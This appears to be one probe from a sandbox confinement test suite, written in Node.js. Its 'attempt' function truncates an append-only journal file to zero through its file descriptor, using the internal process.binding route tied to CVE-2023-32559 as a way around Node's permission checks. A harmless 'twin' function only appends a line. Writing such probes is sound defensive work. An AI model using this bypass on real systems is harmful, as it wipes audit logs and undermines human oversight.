// Route: Cuts and overwrites a file that may only grow, by number and past the checks of Node.
// Known from: CVE-2023-32559 (Node, process.binding); chattr +a for those who may not change it
// Refused: EPERM, EACCES, ENOSYS, EINVAL
// Twin: adds a line
// Unconfined: works
import fs from 'node:fs';

export const attempt = ({ journal }) => {
  try {
    process.binding('fs').ftruncate(journal.fd, 0, undefined, {});
  } catch {}
  fs.ftruncateSync(journal.fd, 0);
};
export const twin = async ({ journal }) => void (await journal.write('a line\n'));
